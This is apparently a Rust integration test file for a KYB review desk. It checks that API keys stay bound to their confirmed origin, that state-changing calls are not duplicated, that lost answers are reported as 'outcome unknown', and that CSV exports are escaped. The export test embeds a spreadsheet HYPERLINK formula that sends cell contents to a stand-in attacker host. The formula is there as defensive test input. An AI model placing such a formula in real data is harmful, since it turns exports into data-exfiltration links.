//! The desk against an attacker, a crash and a bad network, over real HTTP (sandboxes
//! on loopback), real files and, under `make test`, the real keyring:
//! - a key goes only to the origin it was given for, whatever the profile book says;
//! - a state-changing call cannot go out twice at once;
//! - a state-changing call whose answer is lost is "outcome unknown", sent once.

mod common;

use kyb_desk_core::audit::OutcomeCode;
use std::sync::Arc;

use common::{DemoDesk, MemoryStore};
use kyb_api::Environment;
use kyb_api::client::origin_of;
use kyb_desk_core::desk::Desk;
use kyb_desk_core::error::{DeskCode, Details, ServiceCode};
use kyb_desk_core::profiles::{ProfileInput, ProfileStore};
use kyb_desk_core::secrets::KeyVault;
use kyb_sandbox::{Fault, RunningSandbox, Sandbox, SandboxConfig};

const TRACKING: &str = "POST /expedientes/v1/tracking";
const VERIFICATION: &str = "GET /verificaciones/{folio}";
const RESEND: &str = "POST /verificaciones/{folio}/reenviar";

/// A second service on loopback, seeded like the first (same keys): every request
/// that reaches it is counted.
async fn second_listener() -> RunningSandbox {
    Sandbox::start(SandboxConfig::default())
        .await
        .expect("a second sandbox starts")
}

fn origin(base_url: &str) -> String {
    origin_of(&kyb_api::client::parse_base_url(base_url).expect("an address"))
}

fn moved_to(demo: &DemoDesk, base_url: &str) -> ProfileInput {
    let profile = &demo.profile;
    ProfileInput {
        id: Some(profile.id.clone()),
        name: profile.name.clone(),
        environment: Environment::Custom {
            base_url: base_url.to_owned(),
        },
        workspace_id: profile.workspace_id.clone(),
        agent_email: profile.agent_email.clone(),
        flows: profile.flows.clone(),
        team: None,
    }
}

/// Every request the second listener received, on the routes the desk may call.
fn reached(listener: &RunningSandbox) -> u64 {
    [TRACKING, VERIFICATION, RESEND]
        .iter()
        .map(|route| listener.requests(route))
        .sum()
}

#[tokio::test]
async fn a_changed_address_gets_no_key_until_the_user_says_so() {
    let demo = DemoDesk::start().await;
    let desk = &demo.desk;
    let listener = second_listener().await;
    let first = origin(&demo.manifest().base_url);
    let second = origin(&listener.manifest.base_url);
    let folio = demo.manifest().examples.folios["Enviado"].clone();
    let examples = demo.manifest().examples.clone();

    desk.save_profile(moved_to(&demo, &listener.manifest.base_url))
        .expect("the address is changed");
    let status = desk.key_status(&demo.profile.id).expect("status");
    assert_eq!(status.bound_origin.as_deref(), Some(first.as_str()));
    assert_eq!(status.profile_origin.as_deref(), Some(second.as_str()));
    assert!(!status.origin_confirmed);

    // Every way a key could leave: a read, a state change, the connection check.
    let refused = desk.verification(&folio).await.expect_err("not sent");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    // The window words it from the two origins.
    assert_eq!(
        refused.details.as_deref(),
        Some(&Details::KeyOriginChanged {
            recorded: Some(first.clone()),
            now: second.clone()
        })
    );
    let refused = desk
        .resend_verification(&folio)
        .await
        .expect_err("not sent");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    let refused = desk
        .tracking(&examples.flow_id, &examples.rfc)
        .await
        .expect_err("not sent");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    let refused = desk
        .check_connection(&demo.profile.id)
        .await
        .expect_err("not sent");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    assert_eq!(reached(&listener), 0, "the key reached the new address");

    // The user is asked about exactly this move, and confirms it.
    let change = desk
        .key_origin_change(&demo.profile.id)
        .expect("read")
        .expect("something to confirm");
    assert_eq!(change.bound.as_deref(), Some(first.as_str()));
    assert_eq!(change.origin, second);
    // An answer about one move is no answer about another: a third address saved
    // while the question was open is refused, and the key stays where it was.
    let third = second_listener().await;
    desk.save_profile(moved_to(&demo, &third.manifest.base_url))
        .expect("moved again");
    let refused = desk
        .confirm_key_origin(&demo.profile.id, &change)
        .expect_err("another origin than the one asked about");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    let status = desk.key_status(&demo.profile.id).expect("status");
    assert_eq!(status.bound_origin.as_deref(), Some(first.as_str()));
    desk.save_profile(moved_to(&demo, &listener.manifest.base_url))
        .expect("back to the address asked about");
    let status = desk
        .confirm_key_origin(&demo.profile.id, &change)
        .expect("confirmed");
    assert!(status.origin_confirmed);
    assert_eq!(status.bound_origin.as_deref(), Some(second.as_str()));
    desk.verification(&folio)
        .await
        .expect("the key goes where it was confirmed for");
    assert_eq!(listener.requests(VERIFICATION), 1);

    // Back to the first address: refused again, until the key is entered again.
    desk.save_profile(moved_to(&demo, &demo.manifest().base_url))
        .expect("moved back");
    assert_eq!(
        desk.verification(&folio)
            .await
            .map(drop)
            .map_err(|e| e.code),
        Err(DeskCode::KeyOriginChanged.into())
    );
    desk.set_api_key(&demo.profile.id, &demo.manifest().tenants[0].api_key, true)
        .expect("entered again");
    desk.verification(&folio)
        .await
        .expect("a key entered for this address goes to it");
    assert_eq!(reached(&listener), 1);
    listener.stop().await;
}

/// A profile book from elsewhere (a copied file, a crafted one) names a new address
/// for a profile whose key is in the keyring: the keyring's binding wins.
#[tokio::test]
#[ignore = "needs a Secret Service: make test runs it"]
async fn a_profile_book_from_elsewhere_cannot_redirect_a_stored_key() {
    let service = format!("kyb-desk-trust-{}", uuid::Uuid::new_v4());
    let dir = tempfile::tempdir().expect("temporary directory");
    let store = MemoryStore::default();
    let sandbox = Sandbox::start(SandboxConfig::default())
        .await
        .expect("sandbox");
    let listener = second_listener().await;
    let manifest = sandbox.manifest.clone();
    let profile = {
        let desk = Desk::open(
            dir.path(),
            Box::new(store.clone()),
            KeyVault::new(&service),
            None,
        )
        .expect("desk");
        let profile = kyb_desk_core::demo::install(&desk, &manifest).expect("profile");
        // Kept in the real keyring this time, not for the session.
        desk.set_api_key(&profile.id, &manifest.tenants[0].api_key, false)
            .expect("stored in the keyring");
        profile
    };
    // The book is replaced behind the desk's back, as a copied file would be.
    let mut book = store.load().expect("read").expect("a book");
    book.profiles[0].environment = Environment::Custom {
        base_url: listener.manifest.base_url.clone(),
    };
    store.save(&book).expect("replaced");

    let desk = Desk::open(dir.path(), Box::new(store), KeyVault::new(&service), None)
        .expect("desk reopened");
    let folio = manifest.examples.folios["Enviado"].clone();
    let refused = desk.verification(&folio).await.expect_err("not sent");
    assert_eq!(refused.code, DeskCode::KeyOriginChanged);
    assert_eq!(reached(&listener), 0, "the stored key followed the book");
    desk.delete_api_key(&profile.id).expect("keyring cleaned");
    listener.stop().await;
    sandbox.stop().await;
}

#[tokio::test]
async fn the_same_state_change_never_goes_out_twice_at_once() {
    let demo = Arc::new(DemoDesk::start().await);
    let folio = demo.manifest().examples.folios["Enviado"].clone();
    demo.sandbox
        .add_fault(Fault {
            route: RESEND.into(),
            latency_ms: 1_500,
            ..Fault::default()
        })
        .expect("a valid fault");
    let first = {
        let demo = demo.clone();
        let folio = folio.clone();
        tokio::spawn(async move { demo.desk.resend_verification(&folio).await })
    };
    // The first is on its way (the sandbox counts a request as it arrives).
    wait_until(|| demo.sandbox.requests(RESEND) == 1).await;
    let second = demo
        .desk
        .resend_verification(&format!(" {folio} "))
        .await
        .expect_err("refused while the first is out");
    assert_eq!(second.code, DeskCode::InFlight);
    first
        .await
        .expect("the first call ran")
        .expect("and was answered");
    assert_eq!(demo.sandbox.requests(RESEND), 1, "one billable resend");
    // Answered: the same call may be made again.
    demo.sandbox.clear_faults();
    demo.desk
        .resend_verification(&folio)
        .await
        .expect("sent again once the first answered");
    assert_eq!(demo.sandbox.requests(RESEND), 2);
}

/// Waits (at most 10 s) until `done` holds.
async fn wait_until(done: impl Fn() -> bool) {
    for _ in 0..200 {
        if done() {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("never happened");
}

/// A company name the applicant chose reaches the export as text, never as a formula
/// a spreadsheet would run.
#[tokio::test]
async fn an_exported_formula_opens_as_text() {
    let demo = DemoDesk::start().await;
    let desk = &demo.desk;
    let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Abrir\")";
    let rfc = "FML010101AB1";
    desk.create_file(kyb_api::requests::CreateFileRequest {
        flow_id: demo.manifest().examples.flow_id.clone(),
        company: Some(kyb_api::requests::Company {
            company_name: formula.to_owned(),
            company_rfc: Some(rfc.to_owned()),
        }),
        ..Default::default()
    })
    .await
    .expect("created (and followed)");
    desk.refresh_watchlist(false, |_| {})
        .await
        .expect("refreshed");
    let path = demo.data_dir().join("seguimiento.csv");
    assert_eq!(desk.export_watchlist_csv(&path).expect("exported"), 1);
    let mut reader = csv::Reader::from_path(&path).expect("the export reads");
    let row = reader.records().next().expect("a row").expect("readable");
    assert_eq!(&row[0], rfc);
    assert_eq!(&row[3], format!("'{formula}"));
}

/// The service applies a correction, and its answer never arrives in time: the analyst
/// is told the outcome is unknown (not "try again"), nothing was sent twice, the draft
/// stays, and the tracking re-read shows what the service did.
#[tokio::test]
async fn a_correction_whose_answer_is_lost_is_outcome_unknown() {
    const CORRECTION: &str = "POST /expedientes/solicitar-correccion";
    let dir = tempfile::tempdir().expect("temporary directory");
    let sandbox = kyb_desk_core::demo::start_sandbox().await.expect("sandbox");
    let desk = Desk::open(
        dir.path(),
        Box::new(MemoryStore::default()),
        KeyVault::new(format!("kyb-desk-trust-{}", uuid::Uuid::new_v4())),
        None,
    )
    .expect("desk")
    .with_request_timeout(std::time::Duration::from_secs(1));
    kyb_desk_core::demo::install(&desk, &sandbox.manifest).expect("demo profile");
    let examples = sandbox.manifest.examples.clone();
    let id = examples.document_id.to_string();
    let kyb_desk_core::desk::FileDetail::V2 { detail, .. } =
        desk.file_detail(&id).await.expect("detail")
    else {
        panic!("version 2 expected")
    };
    let section = detail.section_ids()[0].name.clone();
    desk.save_draft(kyb_desk_core::drafts::Draft {
        document_id: id.clone(),
        decisions: vec![kyb_desk_core::drafts::DraftDecision {
            seccion: section.clone(),
            estatus: Some(kyb_api::file::Decision::Rechazada),
            comentario: "Documento ilegible".into(),
            ..Default::default()
        }],
        mensaje_general: String::new(),
        notificar_usuario: true,
        saved_at_utc: String::new(),
    })
    .expect("draft saved");
    // Served (the state changes), then answered only after the client gave up.
    sandbox
        .add_fault(Fault {
            route: CORRECTION.into(),
            latency_after_ms: 3_000,
            ..Fault::default()
        })
        .expect("a valid fault");
    let preview = desk.preview_correction(&id).expect("previewed");
    let lost = desk
        .send_correction(&id, &preview.previewed)
        .await
        .expect_err("no answer in time");
    assert_eq!(lost.code, ServiceCode::OutcomeUnknown);
    assert_eq!(sandbox.requests(CORRECTION), 1, "never retried");
    assert!(
        desk.load_draft(&id).expect("read").is_some(),
        "the draft stays until the outcome is known"
    );
    // The re-read: the service did act.
    let tracking = desk
        .tracking(&examples.flow_id, &examples.rfc)
        .await
        .expect("tracking");
    let status = tracking
        .sections
        .iter()
        .find(|s| s.comment.section == section)
        .map(|s| s.comment.status.clone());
    assert_eq!(status, Some(kyb_api::file::SectionStatus::Rechazado));
    // The audit log says so: the intent went in before the request left, and its
    // result is "outcome unknown".
    let entries = desk.audit_entries().expect("audit").entries;
    let intent = entries
        .iter()
        .find(|e| e.record.outcome.code == Some(OutcomeCode::INTENT))
        .expect("an intent entry");
    let result = entries
        .iter()
        .find(|e| e.record.completes == Some(intent.record.seq))
        .expect("its result");
    assert_eq!(
        result.record.outcome.code,
        Some(OutcomeCode::Failed(ServiceCode::OutcomeUnknown.into()))
    );
}

/// A second desk on the same data folder (a second app, whatever its instance name)
/// is refused while the first lives, and may open once it is gone.
#[test]
fn one_desk_writes_a_data_folder_at_a_time() {
    let dir = tempfile::tempdir().expect("temporary directory");
    let open = || {
        Desk::open(
            dir.path(),
            Box::new(MemoryStore::default()),
            KeyVault::new(format!("kyb-desk-trust-{}", uuid::Uuid::new_v4())),
            None,
        )
    };
    let first = open().expect("the first desk opens");
    let Err(refused) = open() else {
        panic!("a second desk opened the same folder")
    };
    // "KYB Desk is already open with the data of <folder>", worded by the window.
    assert_eq!(refused.code, DeskCode::DataFolderInUse);
    assert_eq!(
        refused.details.as_deref(),
        Some(&Details::Path {
            path: dir.path().display().to_string()
        })
    );
    drop(first);
    open().expect("the folder is free again");
}
